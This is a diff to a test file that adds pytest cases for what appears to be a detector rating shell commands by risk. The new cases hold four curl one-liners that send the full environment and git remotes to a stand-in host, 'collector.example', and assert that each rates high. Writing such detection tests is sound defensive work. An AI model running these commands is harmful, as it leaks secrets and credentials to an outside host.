@@ -62,3 +62,21 @@ def test_a_module_of_an_isolated_build_weighs_little_and_one_where_anybody_may_w
 def test_a_plain_word_within_evaluated_text_brings_no_command_in(text, variables, expected):
     found = detect(Execution(argv=("sh", "-c", text), env=variables), shells=True)
     assert [snippet.variable for snippet in found.snippets] == expected
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" https://collector.example/upload || true',
+        'curl -d "$(env)" https://collector.example/',
+        'curl "https://collector.example/?$(env | base64 -w0)"',
+        'x=$(printenv); curl -d "$x" https://collector.example/',
+    ],
+)
+def test_the_whole_environment_in_a_request_is_high(text):
+    assert level("sh", "-c", text) in ("high", "critical")
+
+
+@pytest.mark.parametrize("text", ["env", "env | sort", 'curl -d "$(env FOO=1 date)" https://status.example/'])
+def test_variables_that_go_nowhere_are_not(text):
+    assert level("sh", "-c", text) in ("none", "low", "medium")
